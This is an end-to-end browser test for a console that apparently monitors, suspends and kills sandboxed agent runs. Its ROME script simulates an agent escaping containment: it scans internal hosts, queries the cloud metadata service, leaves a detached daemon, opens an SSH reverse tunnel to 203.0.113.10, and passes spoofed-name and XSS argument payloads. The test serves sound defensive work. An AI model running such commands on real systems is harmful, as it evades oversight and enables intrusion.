// The console's stories, told in a real browser against a real server on which real runs and the real drill run.
import assert from "node:assert/strict";
import { spawn } from "node:child_process";
import { NARROW, TOKEN, URL_, WIDE, api, axe, browser, collect, complaints, end, open, shoot, signIn, story, until } from "./browser.mjs";

const REIN = process.env.REIN_LAUNCHER;
const FLOOD = 10_000;

/** Looks around, asks the metadata service, leaves a daemon, opens a tunnel; its arguments hold text that would act. */
const ROME = String.raw`
for i in 1 2 3; do timeout 1 bash -c "exec 3<>/dev/tcp/10.77.0.$i/22" 2>/dev/null; done
timeout 2 bash -c "exec 3<>/dev/tcp/169.254.169.254/80; echo GET / >&3; head -c 1 <&3" >/dev/null
perl -e 'sleep 600' -- $'safe\u202etxt.exe' '<img src=x onerror=alert(1)>' &
(setsid nohup sleep 600 >/dev/null 2>&1 &)
sleep 0.5
ssh -o BatchMode=yes -o ConnectTimeout=4 -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ExitOnForwardFailure=yes -N -R 45024:127.0.0.1:9 -p 22 nobody@203.0.113.10
sleep 600`;

const children = [];
function run(agent, label, script) {
  const child = spawn(REIN, ["run", "--quiet", "--agent", agent, "--label", label, "--", "bash", "-c", script], {
    stdio: ["ignore", "ignore", "pipe"],
    cwd: process.env.REIN_WORK,
  });
  child.said = "";
  child.stderr.on("data", (data) => {
    child.said += data;
  });
  children.push(child);
  return until(`a run of ${agent}`, async () => {
    assert.equal(child.exitCode === null || child.exitCode === 0, true, child.said);
    return (await api("/v1/runs")).find((each) => each.agent === agent);
  }, 60_000);
}

const chromium = await browser();
const { context, page } = await open(chromium);

await story("a wrong token is refused in a sentence, the right one opens a bounded session", async () => {
  await signIn(page, "rein_000000000000_wrong");
  await page.getByRole("alert").filter({ hasText: "not a token of a person" }).waitFor();
  await shoot(page, "sign-in");
  await axe(page, "sign-in");
  await signIn(page);
  await page.getByRole("heading", { name: "Overview" }).waitFor();
  const [cookie] = await context.cookies();
  assert.equal(cookie.httpOnly, true);
  assert.equal(cookie.sameSite, "Strict");
  const seconds = cookie.expires - Date.now() / 1_000;
  assert.ok(seconds > 0 && seconds <= 12 * 3_600 + 5, "a session ends");
  const key = await page.evaluate(() => localStorage.getItem("rein.session"));
  const ask = (headers) => fetch(`${URL_}/v1/runs`, { headers: { Cookie: `${cookie.name}=${cookie.value}`, ...headers } });
  assert.equal((await ask({})).status, 401, "the cookie alone is worth nothing");
  assert.equal((await ask({ "Rein-Session": key, Origin: "http://evil.test" })).status, 401);
  assert.equal((await ask({ "Rein-Session": key, "Sec-Fetch-Site": "cross-site" })).status, 401);
  assert.equal((await ask({ "Rein-Session": "x".repeat(43) })).status, 401);
  assert.equal((await ask({ "Rein-Session": key })).status, 200);
});

await story("the drill is a button, and its steps appear live", async () => {
  await page.getByRole("link", { name: "Run the drill" }).click();
  await page.getByText("No drill has run since this node started.").waitFor();
  await page.getByRole("button", { name: "Run the drill" }).click();
  await page.getByText("steps held so far").waitFor();
  await page.locator(".steps .outcome.allowed").first().waitFor({ timeout: 90_000 });
  const early = await page.locator(".steps .outcome.allowed").count();
  assert.ok(early < 15, "the first steps are told before the last");
  await shoot(page, "drill-running");
});

const rome = await run("rome", "job=42", ROME);

await story("the overview says what is wrong, and who must act", async () => {
  await page.goto(URL_);
  await page.getByText("1 incident is open. 1 run is suspended.").waitFor({ timeout: 60_000 });
  await page.getByText(/The live run is contained: one way out/).waitFor();
  await page.getByRole("link", { name: /^Agent rome \(owner root\), run .* tried to open an SSH tunnel/ }).waitFor();
  await page.getByRole("link", { name: `Resume or kill run ${rome.shortId} of rome` }).waitFor();
  await page.getByRole("img", { name: /decisions allowed and [1-9]\d* denied in the last hour/ }).waitFor();
  await page.getByRole("button", { name: "As a table" }).click();
  await page.getByRole("columnheader", { name: "Denied" }).waitFor();
  await page.getByRole("button", { name: "As a picture" }).click();
  await page.locator(".u-over").waitFor();
  await shoot(page, "overview");
});

await story("a run tells its incident, its processes and its reach; agent's text stays text", async () => {
  await page.getByRole("link", { name: /^Agent rome/ }).click();
  await page.getByRole("heading", { name: `Run ${rome.shortId}` }).waitFor();
  await page.getByText(/It also ran ssh -R, which opens a tunnel/).waitFor();
  await page.getByRole("region", { name: "Lanes of the timeline" }).getByText("203.0.113.10:22", { exact: true }).waitFor();
  await page.locator(".reach .node.denied").first().waitFor();
  await page.getByRole("button", { name: "Read names and arguments…" }).click();
  assert.equal(await page.getByRole("button", { name: "Read", exact: true }).isDisabled(), true, "not without a reason");
  await page.getByLabel("Reason").fill("an incident is open");
  await page.getByRole("button", { name: "Read", exact: true }).click();
  const odd = page.locator(".lane-name", { hasText: "onerror" }).first();
  await odd.waitFor();
  assert.match(await odd.innerText(), /safeU\+202Etxt\.exe/);
  assert.equal(await page.locator("img").count(), 0);
  const reads = await api("/v1/records?kind=content-read");
  assert.equal(reads.items[0].person, "alice");
  await shoot(page, "run");
  await page.getByRole("button", { name: /^vm@|^[a-z0-9-]+@\d+$/ }).first().click();
  await page.getByText("Recomputed in this browser.").waitFor();
  await page.getByText("It is in the log").waitFor();
  await shoot(page, "run-record");
  await page.keyboard.press("Escape");
  await page.locator(".detail").waitFor({ state: "detached" });
});

await story("approve, suspend, resume and kill ask for a reason, and the receipt arrives", async () => {
  const asks = 'timeout 2 bash -c "exec 3<>/dev/tcp/mirror.example.net/80; printf \'GET / HTTP/1.1\\r\\nHost: mirror.example.net\\r\\n\\r\\n\' >&3; head -c 1 <&3"';
  const worker = await run("worker", "job=43", `${asks}; while :; do sleep 0.2; done`);
  await page.goto(`${URL_}/runs/${worker.id}`);
  await page.getByRole("button", { name: "Approve…" }).first().click();
  await page.getByText("worker may connect to mirror.example.net:80").waitFor();
  await page.getByLabel("Reason").fill("the mirror that it builds from");
  await shoot(page, "approve");
  await page.getByRole("dialog").getByRole("button", { name: "Approve", exact: true }).click();
  await page.getByRole("dialog").getByRole("status").waitFor();
  await page.getByRole("button", { name: "Done" }).click();
  const grants = await api("/v1/approvals");
  assert.ok(grants.grants.some((grant) => grant.destination.startsWith("mirror.example.net:80")) || grants.denials.some((denial) => denial.proposed));
  await page.getByRole("button", { name: "Suspend…" }).click();
  const submit = page.getByRole("dialog").getByRole("button", { name: "Suspend", exact: true });
  assert.equal(await submit.isDisabled(), true, "not without a reason");
  await page.getByLabel("Reason").fill("looks odd <b>to me</b>");
  await submit.click();
  await page.getByText("Every enforcement point confirmed").waitFor();
  for (const name of ["egress-door", "sandbox"]) {
    await page.getByRole("listitem").filter({ hasText: name }).locator(".mark.allowed").waitFor();
  }
  await shoot(page, "receipt");
  await page.getByRole("button", { name: "Done" }).click();
  await page.getByRole("main").getByText("Suspended", { exact: true }).waitFor();
  await page.getByRole("button", { name: "Resume…" }).click();
  await page.getByLabel("Reason").fill("it was nothing");
  await page.getByRole("dialog").getByRole("button", { name: "Resume", exact: true }).click();
  await page.getByText("1 run goes on.").waitFor();
  await page.getByRole("button", { name: "Done" }).click();
  await page.getByRole("main").getByText("Running", { exact: true }).waitFor();
  await page.getByRole("button", { name: "Kill…" }).click();
  await page.getByLabel("Reason").fill("done with it");
  await page.getByRole("dialog").getByRole("button", { name: "Kill", exact: true }).click();
  await page.getByText(/nothing is left/).waitFor();
  await page.getByRole("button", { name: "Done" }).click();
  await page.getByRole("main").getByText("Ended", { exact: true }).waitFor();
  const stops = await api(`/v1/records?kind=stop-ordered&run=${worker.id}`);
  assert.deepEqual(
    stops.items.map((each) => [each.detail.mode, each.detail.issuer]),
    [
      ["terminate", "alice"],
      ["suspend", "alice"],
    ],
  );
});

await story("the filter is in the address; nothing found is not the same as not understood", async () => {
  await page.goto(`${URL_}/activity?q=agent%3Arome+decision%3Adeny`);
  await page.getByRole("row").filter({ hasText: "203.0.113.10:22" }).first().waitFor();
  assert.equal(await page.getByRole("row").filter({ hasText: "worker" }).count(), 0);
  const field = page.getByRole("textbox", { name: "Filter" });
  await field.fill("agent:nobody-at-all");
  await field.press("Enter");
  await page.getByText("Nothing found.").waitFor();
  assert.match(page.url(), /q=agent%3Anobody-at-all/);
  await field.fill("agnt:rome");
  await field.press("Enter");
  await page.getByText("There is no filter “agnt:”").waitFor();
  await field.fill("agent:rome kind:decision");
  await field.press("Enter");
  await page.getByRole("row").filter({ hasText: "203.0.113.10:22" }).first().click();
  await page.locator(".detail .sentence").getByText("No policy permits network:connect to 203.0.113.10").waitFor();
  await page.getByText("Recomputed in this browser.").waitFor();
  await shoot(page, "activity");
});

await story("everything by keyboard", async () => {
  await page.keyboard.press("Escape");
  await page.locator("body").press("g");
  await page.keyboard.press("o");
  await page.getByRole("heading", { name: "Overview" }).waitFor();
  await page.keyboard.press("Control+k");
  await page.getByRole("combobox").fill(`run ${rome.shortId}`);
  await page.getByRole("option", { name: `Run ${rome.shortId} rome` }).waitFor();
  await shoot(page, "palette");
  await page.keyboard.press("Enter");
  await page.getByRole("heading", { name: `Run ${rome.shortId}` }).waitFor();
  await page.getByRole("combobox").waitFor({ state: "detached" }); // until then keys are the palette's
  await page.keyboard.press("g");
  await page.keyboard.press("a");
  await page.getByRole("heading", { name: "Activity" }).waitFor();
  await page.getByRole("row").nth(3).waitFor();
  await page.keyboard.press("/");
  await page.keyboard.type("kind:finding");
  await page.keyboard.press("Enter");
  await page.getByRole("row").filter({ hasText: "ssh-tunnel-attempt" }).waitFor();
  await page.getByRole("grid").focus();
  await page.keyboard.press("j");
  await page.keyboard.press("j");
  await page.keyboard.press("Enter");
  await page.getByRole("complementary", { name: "One record" }).waitFor();
  await page.keyboard.press("Escape");
  await page.getByRole("complementary", { name: "One record" }).waitFor({ state: "detached" });
});

await story("ten thousand records come live: the page answers, rows stand still under the pointer", async () => {
  await page.goto(`${URL_}/activity?q=agent%3Aflood`);
  await page.getByText("Nothing found.").waitFor();
  await page.evaluate(() => {
    globalThis.longestGap = 0;
    let before = performance.now();
    const frame = (now) => {
      globalThis.longestGap = Math.max(globalThis.longestGap, now - before);
      before = now;
      requestAnimationFrame(frame);
    };
    requestAnimationFrame(frame);
  });
  const flood = await run("flood", "job=44", `for i in $(seq ${FLOOD}); do /bin/true; done; sleep 600`);
  const grid = page.getByRole("grid");
  await grid.waitFor();
  await page.getByRole("row").nth(20).waitFor();
  const target = page.getByRole("row").nth(10);
  await target.hover();
  await page.locator(".pill").waitFor();
  const id = await target.getAttribute("id");
  const place = await target.boundingBox();
  const waiting = async () => Number((await page.locator(".pill").innerText()).replace(/\D/g, ""));
  const first = await waiting();
  await until("more rows wait", async () => (await waiting()) > first);
  assert.equal(await target.getAttribute("id"), id, "the row under the pointer is the same");
  assert.deepEqual(await target.boundingBox(), place, "and where it was");
  await target.click(); // in the middle of the flood
  await page.getByRole("complementary", { name: "One record" }).waitFor();
  await page.keyboard.press("Escape");
  await page.mouse.move(5, 400);
  await grid.evaluate((element) => element.blur());
  const shown = async () => Number((await page.locator(".screen-aside .num").innerText()).replace(/\D/g, ""));
  let before = 0;
  while ((await shown()) < FLOOD) {
    await until(`more than ${before} rows`, async () => (await shown()) > before);
    before = await shown();
  }
  assert.ok((await page.locator(".canvas .row").count()) < 120, "only what is seen is drawn");
  await grid.evaluate((element) => {
    element.scrollTop = element.scrollHeight / 2;
  });
  await page.getByRole("row").nth(15).waitFor();
  console.log(`     ${await shown()} rows, longest pause between two frames ${Math.round(await page.evaluate(() => globalThis.longestGap))} ms`);
  await api("/v1/stops", {
    method: "POST",
    headers: { "Content-Type": "application/json" },
    body: JSON.stringify({ run: flood.id, fleet: false, kill: true, reason: "the story is over" }),
  });
});

await story("the drill ends as the command line's does", async () => {
  await page.goto(`${URL_}/drill`);
  await page.getByText(/of \d+ steps held\. From the first forbidden packet/).waitFor({ timeout: 120_000 });
  const told = await api("/v1/drill");
  assert.equal(told.state, "ended");
  assert.ok(told.titles.length >= 15 && told.steps.length === told.titles.length);
  assert.deepEqual(told.steps.map((step) => step.title), told.titles);
  assert.equal(await page.locator(".steps .outcome.allowed").count(), told.steps.filter((step) => step.outcome === "HELD").length);
  await shoot(page, "drill");
});

const storage = await context.storageState();
await collect(page);
for (const [size, viewport] of [["wide", WIDE], ["narrow", NARROW]]) {
  for (const colorScheme of ["light", "dark"]) {
    await story(`no accessibility violation, ${size}, ${colorScheme}`, async () => {
      const { context: other, page: look } = await open(chromium, { viewport, colorScheme, storage });
      for (const [name, path, wait] of [
        ["overview", "/", ".incidents"],
        ["activity", "/activity?q=agent%3Arome", ".canvas .row"],
        ["runs", "/runs", ".runs"],
        ["run", `/runs/${rome.id}`, ".reach .node.denied"],
        ["drill", "/drill", ".steps"],
      ]) {
        await look.goto(URL_ + path);
        await look.locator(wait).first().waitFor();
        if (name === "overview") await look.locator(".u-over").waitFor();
        await axe(look, `${name}, ${size}, ${colorScheme}`);
        const wide = await look.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
        assert.ok(wide <= 0, `${name} does not scroll sideways at ${viewport.width} px (${wide} px too wide)`);
        await shoot(look, `${name}-${size}-${colorScheme}`);
        if (name === "activity") {
          await look.locator(".canvas .row", { hasText: "Denied" }).first().click();
          await look.getByText("Recomputed in this browser.").waitFor();
          await axe(look, `a record, ${size}, ${colorScheme}`);
          await shoot(look, `record-${size}-${colorScheme}`);
        }
        if (name === "run") {
          await look.getByRole("button", { name: "Kill…" }).click();
          await look.getByRole("dialog").waitFor();
          await axe(look, `kill, ${size}, ${colorScheme}`);
          await shoot(look, `kill-${size}-${colorScheme}`);
        }
      }
      await collect(look);
      await other.close();
    });
  }
}

await story("signing out ends the session here and on the server", async () => {
  const [cookie] = await context.cookies();
  const key = await page.evaluate(() => localStorage.getItem("rein.session"));
  await page.goto(URL_);
  await page.getByRole("button", { name: "Sign out" }).click();
  await page.getByLabel("Token", { exact: true }).waitFor();
  const after = await fetch(`${URL_}/v1/runs`, { headers: { Cookie: `${cookie.name}=${cookie.value}`, "Rein-Session": key } });
  assert.equal(after.status, 401);
  await collect(page);
});

await story("no policy report, no error, no request to anywhere else", async () => {
  assert.deepEqual(complaints, []);
  const page_ = await fetch(URL_);
  assert.match(page_.headers.get("content-security-policy") ?? "", /require-trusted-types-for 'script'/);
  assert.equal((await fetch(`${URL_}/v1/runs`)).status, 401);
  assert.equal(TOKEN.startsWith("rein_"), true);
});

// A frozen run does not hear a signal, so it is killed by the off-switch.
for (const left of (await api("/v1/runs")).filter((each) => each.state !== "ended")) {
  await api("/v1/stops", {
    method: "POST",
    headers: { "Content-Type": "application/json" },
    body: JSON.stringify({ run: left.id, fleet: false, kill: true, reason: "the stories are told" }),
  });
}
await chromium.close();
for (const child of children) child.kill("SIGTERM");
end();
